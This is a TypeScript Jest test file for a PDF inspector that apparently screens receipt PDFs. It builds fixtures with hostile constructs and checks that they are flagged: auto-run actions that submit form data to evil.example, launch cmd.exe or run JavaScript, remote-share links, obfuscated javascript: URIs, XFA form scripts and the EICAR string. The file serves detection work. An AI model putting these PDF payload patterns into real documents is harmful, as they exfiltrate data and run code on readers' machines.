import { deflateSync } from 'node:zlib';
import { afterAll, describe, expect, it } from '@jest/globals';
import {
  appendRevision,
  deflated,
  encryptedPdf,
  packObjects,
  textPage,
  writePackedPdf,
  writePdf,
  writeTextPdf,
  type FixtureObjects,
  type FixtureStream,
  type TextPage,
} from './pdf-fixture.ts';
import { createPdfInspector } from './pdf-inspector.ts';

const expected = { amount: '1000.54', number: null };
const lines = ['Сумма 1 000,54 ₽'];
const page = textPage(lines);

const inspector = createPdfInspector();
afterAll(() => inspector.close());

const lookAt = async (content: Buffer) => {
  const { verdict, signs } = await inspector.inspect(content, expected);
  return [verdict, ...(signs ?? [])];
};
const lookAtPage = (options: TextPage, others: FixtureObjects = {}) =>
  lookAt(writePdf({ ...textPage(lines, options), ...others }));
const link = (action: string): TextPage => ({
  page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`,
});

const hex = (content: Buffer): Buffer => Buffer.from(`${content.toString('hex')}>`);
const ascii85 = (content: Buffer): Buffer => {
  const padded = Buffer.concat([content, Buffer.alloc((4 - (content.length % 4)) % 4)]);
  let text = '';
  for (let at = 0; at < padded.length; at += 4) {
    let word = padded.readUInt32BE(at);
    const five = Array.from({ length: 5 }, () => {
      const digit = String.fromCharCode(33 + (word % 85));
      word = Math.floor(word / 85);
      return digit;
    })
      .reverse()
      .join('');
    text += five === '!!!!!' ? 'z' : five;
  }
  return Buffer.from(`${text}~>`);
};
/** Each byte as its difference from the one in front of it, in rows of ten. */
const predicted = (content: Buffer): Buffer => {
  const rows: Buffer[] = [];
  for (let at = 0; at < content.length; at += 10) {
    const row = Buffer.concat([content.subarray(at, at + 10), Buffer.alloc(10)]).subarray(0, 10);
    rows.push(Buffer.from([1, ...row.map((byte, index) => byte - (index === 0 ? 0 : row[index - 1]!))]));
  }
  return deflateSync(Buffer.concat(rows));
};
const runs = (content: Buffer): Buffer => Buffer.from([...Array.from(content, (byte) => [0, byte]).flat(), 128]);

const packings: readonly (readonly [string, (content: Buffer) => FixtureStream, FixtureObjects?])[] = [
  ['as it is', (content) => ({ dictionary: '', content })],
  ['deflated', (content) => deflated(content)],
  ['in hexadecimal digits', (content) => ({ dictionary: '/Filter /ASCIIHexDecode', content: hex(content) })],
  [
    'in 85 letters, and deflated',
    (content) => ({ dictionary: '/Filter [/A85 /Fl]', content: ascii85(deflateSync(content)) }),
  ],
  [
    'deflated twice',
    (content) => ({ dictionary: '/Filter [/FlateDecode /FlateDecode]', content: deflateSync(deflateSync(content)) }),
  ],
  [
    'by its differences',
    (content) => ({
      dictionary: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 10 >>',
      content: predicted(content),
    }),
  ],
  [
    'by its differences, told elsewhere',
    (content) => ({
      dictionary: '/Filter /FlateDecode /DecodeParms 31 0 R',
      content: predicted(content),
    }),
    { 31: '<< /Predictor 12 /Columns 32 0 R >>', 32: '10' },
  ],
  ['in a way told elsewhere', (content) => ({ dictionary: '/Filter 31 0 R', content: hex(content) }), { 31: '/AHx' }],
  [
    'in ways told elsewhere',
    (content) => ({ dictionary: '/Filter [31 0 R /Fl]', content: hex(deflateSync(content)) }),
    { 31: '/AHx' },
  ],
  ['in runs', (content) => ({ dictionary: '/Filter /RunLengthDecode', content: runs(content) })],
  [
    'in front of a picture’s own way',
    (content) => ({ dictionary: '/Filter [/AHx /DCTDecode]', content: hex(content) }),
  ],
];

// Rows of the same length: one that is missing would be taken for a callback.
const packed = packings.map(([how, pack, others = {}]) => [how, pack, others] as const);

describe('a script in a form described in XML', () => {
  const form = (stream: FixtureStream, others: FixtureObjects = {}): Buffer =>
    writePdf({
      ...textPage(lines, { catalog: '/AcroForm << /Fields [] /XFA [(template) 9 0 R] >>' }),
      9: stream,
      ...others,
    });
  const script = Buffer.from('<template><subform><script>app.alert(1)</script></subform></template>');
  const plain = Buffer.from('<template><subform><field name="description"/></subform></template>');

  it.each(packed)('is told when it is packed %s', async (_, pack, others) => {
    expect(await lookAt(form(pack(script), others))).toEqual(['scripted', 'form_script']);
    expect(await lookAt(form(pack(plain), others))).toEqual(['sound']);
  });

  it.each([
    ['with a prefix', '<xfa:script contentType="application/x-javascript"/>'],
    ['in characters of two bytes', Buffer.from('<script >', 'utf16le').toString('latin1')],
  ])('is told %s', async (_, text) => {
    expect(await lookAt(form(deflated(Buffer.from(text, 'latin1'))))).toEqual(['scripted', 'form_script']);
  });

  it('is told of a form that the newer way of packing objects hides', async () => {
    const { 1: catalog, ...others } = textPage(lines, { catalog: '/AcroForm << /Fields [] /XFA 9 0 R >>' });
    expect(await lookAt(writePackedPdf({ ...others, 9: deflated(script) }, 12, { 1: catalog }))).toEqual([
      'scripted',
      'form_script',
    ]);
  });

  it('is none in a page that is attached', async () => {
    const attached = {
      ...textPage(lines, { catalog: '/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>' }),
      9: '<< /Type /Filespec /F (a.html) /EF << /F 10 0 R >> >>',
      10: deflated('<script>x</script>', '/Type /EmbeddedFile'),
    };
    expect(await lookAt(writePdf(attached))).toEqual(['sound']);
  });
});

describe('what a document does by itself', () => {
  it.each<[string, string, string, string]>([
    ['sends what is in its fields', '<< /S /SubmitForm /F (https://evil.example) >>', 'automatic', 'submit'],
    ['fills its fields from elsewhere', '<< /S /ImportData /F (data.fdf) >>', 'automatic', 'import'],
    ['opens an address', '<< /S /URI /URI (https://evil.example) >>', 'automatic', 'open_address'],
    [
      'opens a document of another machine',
      String.raw`<< /S /GoToR /F (\\\\evil\\share) /D [0 /Fit] >>`,
      'automatic',
      'remote_file',
    ],
    [
      'opens a document of another site',
      '<< /S /GoToE /F (https://evil.example/a.pdf) /D [0 /Fit] >>',
      'automatic',
      'remote_file',
    ],
    ['starts a program', '<< /S /Launch /F (cmd.exe) >>', 'scripted', 'launch'],
    ['runs a script', '<< /S /JavaScript /JS (x) >>', 'scripted', 'javascript'],
    ['runs a script while it shows a film', '<< /S /Rendition /OP 0 /JS (x) >>', 'scripted', 'javascript'],
  ])('is told: it %s', async (_, action, ...told) => {
    expect(await lookAtPage({ catalog: `/OpenAction ${action}` })).toEqual(told);
    expect(await lookAtPage({ catalog: '/OpenAction 9 0 R' }, { 9: action })).toEqual(told);
    expect(await lookAtPage({ catalog: `/AA << /WC ${action} >>` })).toEqual(told);
    expect(await lookAtPage({ page: '/AA 10 0 R' }, { 10: '<< /O 9 0 R >>', 9: action })).toEqual(told);
    const annotation = `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /Rect [0 0 9 9] /AA << /PO ${action} >> >>]`;
    expect(await lookAtPage({ page: annotation })).toEqual(told);
    const after = `<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next 9 0 R >>] >>`;
    expect(await lookAtPage({ catalog: `/OpenAction ${after}` }, { 9: action })).toEqual(told);
    const packed = { 9: action, 11: '<< /O 9 0 R >>' };
    const { 1: catalog, ...others } = textPage(lines, { page: '/AA 11 0 R' });
    expect(await lookAt(writePackedPdf({ 1: catalog, ...others }, 12, packed))).toEqual(told);
  });

  it('is told where its kind stands elsewhere, or twice', async () => {
    expect(
      await lookAtPage({ catalog: '/OpenAction << /S 9 0 R /F (https://evil.example) >>' }, { 9: '/SubmitForm' }),
    ).toEqual(['automatic', 'submit']);
    expect(await lookAtPage(link('<< /S 9 0 R /JS (x) >>'), { 9: '/JavaScript' })).toEqual(['scripted', 'javascript']);
    expect(await lookAtPage(link('<< /S /JavaScript /JS (x) /S /GoTo >>'))).toEqual(['scripted', 'javascript']);
  });

  it('is told where one action follows another in a circle', async () => {
    const circle = {
      9: '<< /S /GoTo /D [3 0 R /Fit] /Next 10 0 R >>',
      10: '<< /S /ImportData /F (a) /Next [9 0 R 10 0 R] >>',
    };
    expect(await lookAtPage({ catalog: '/OpenAction 9 0 R' }, circle)).toEqual(['automatic', 'import']);
  });

  it.each<[string, TextPage]>([
    ['a view of its first page', { catalog: '/OpenAction [3 0 R /Fit]' }],
    ['an action that leads to one', { catalog: '/OpenAction << /S /GoTo /D [3 0 R /XYZ 0 842 1] >>' }],
    [
      'names of places in it',
      { catalog: '/Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >> /Dests << /b [3 0 R /Fit] >>' },
    ],
    ['printing', { catalog: '/OpenAction << /S /Named /N /Print >>' }],
    ['a link that is clicked', link('<< /S /URI /URI (https://bank.example/receipt?id=1) >>')],
    ['a button that is clicked', link('<< /S /SubmitForm /F (https://bank.example) >>')],
    ['a link to another document', link('<< /S /GoToR /F (terms.pdf) /D [0 /Fit] >>')],
    [
      'a font with the name of a script',
      { page: '/Resources << /Font << /F1 5 0 R /JS 5 0 R /JavaScript 5 0 R >> >>' },
    ],
    ['a name tree without scripts', { catalog: '/Names << /JavaScript << /Names [] >> >>' }],
  ])('is nothing bad: %s', async (_, options) => {
    expect(await lookAtPage(options)).toEqual(['sound']);
  });
});

describe('an address in a link', () => {
  it.each([
    ['a script', 'javascript:alert(1)', 'scripted', 'javascript'],
    ['a script in other letters', ' JaVa\\nScript:alert(1)', 'scripted', 'javascript'],
    ['a script in octal digits', '\\152avascript:alert(1)', 'scripted', 'javascript'],
    ['another machine', String.raw`\\\\evil\\share`, 'automatic', 'remote_file'],
    ['another machine’s file', 'file://evil/share', 'automatic', 'remote_file'],
  ])('is told: %s', async (_, address, ...told) => {
    expect(await lookAtPage(link(`<< /S /URI /URI (${address}) >>`))).toEqual(told);
    expect(await lookAtPage(link('<< /S /URI /URI 9 0 R >>'), { 9: `(${address})` })).toEqual(told);
  });

  it('is told in characters of two bytes', async () => {
    const wide = Buffer.from('\ufeffjavascript:x', 'utf16le').swap16().toString('hex');
    expect(await lookAtPage(link(`<< /S /URI /URI <${wide}> >>`))).toEqual(['scripted', 'javascript']);
  });
});

describe('the text that stands for malware', () => {
  const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('-');

  it.each(packed)('is told in a stream that is packed %s', async (_, pack, others) => {
    expect(await lookAt(writePdf({ ...page, 9: pack(Buffer.from(eicar)), ...others }))).toEqual(['infected', 'eicar']);
  });

  it('is told in a file that is attached, in a picture, in packed objects, and in the file itself', async () => {
    const told = ['infected', 'eicar'];
    const attached = deflated(eicar, '/Type /EmbeddedFile');
    expect(
      await lookAt(writePdf({ ...page, 9: '<< /Type /Filespec /F (a.com) /EF << /F 10 0 R >> >>', 10: attached })),
    ).toEqual(told);
    expect(await lookAt(writePdf({ ...page, 9: deflated(eicar, '/Subtype /Image /Width 1 /Height 1') }))).toEqual(told);
    expect(
      await lookAt(writePdf({ ...page, 9: packObjects({ 20: `<< /A (${eicar.replace(/[\\()]/g, '$&')}) >>` }) })),
    ).toEqual(told);
    expect(await lookAt(Buffer.concat([writePdf(page), Buffer.from(eicar)]))).toEqual(told);
    expect(await lookAt(Buffer.from(eicar))).toEqual(told);
  });
});

it('a script is told beside the encryption that hides the rest', async () => {
  const hidden = appendRevision(encryptedPdf(lines, ''), { 9: '<< /S /JavaScript /JS (x) >>' });
  expect(await lookAt(hidden)).toEqual(['encrypted', 'javascript']);
});

describe('pages', () => {
  const pages = (count: string, kids = '3 0 R 13 0 R') =>
    writePdf({
      ...page,
      2: `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
      13: page[3],
    });

  it.each(['-1', '0', '1', '2', '7', '1000000000', '2.5', '(two)', '99 0 R'])(
    'are counted, whatever the file says: %s',
    async (count) => {
      expect(await inspector.inspect(pages(count), expected)).toMatchObject({
        verdict: 'sound',
        pages: 2,
        hasExpectedAmount: true,
      });
    },
  );

  it('are none where there are none, whatever the file says', async () => {
    expect(await inspector.inspect(pages('3', ''), expected)).toMatchObject({
      verdict: 'unreadable',
      fault: 'It has no pages.',
    });
  });
});

it('an amount is found by its words on a page whose text is packed in any way', async () => {
  for (const [, pack] of packings.slice(0, 6)) {
    const content = pack(Buffer.from('BT /F1 12 Tf 40 800 Td (Total 1,000.54 RUB) Tj ET'));
    const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
    const found = await inspector.inspect(writePdf({ ...page, 4: content, 5: font }), expected);
    expect(found).toMatchObject({ verdict: 'sound', hasExpectedAmount: true });
  }
});

it('a file that is made for the web, and saved again, is sound', async () => {
  const linearized = appendRevision(writeTextPdf(lines), { 9: '<< /Linearized 1 /L 1000 >>' });
  expect(await lookAt(appendRevision(linearized, { 4: page[4] }))).toEqual(['sound']);
});

it('a small file of many packed objects is sound', async () => {
  const many = Object.fromEntries(
    Array.from({ length: 200 }, (_, index) => [
      100 + index,
      `<< /Type /StructElem /S /P /K [ ${' '.repeat(10_000)} ] >>`,
    ]),
  );
  const { 1: catalog, ...others } = textPage(lines);
  expect(await lookAt(writePackedPdf({ 1: catalog, ...others }, 12, many))).toEqual(['sound']);
});
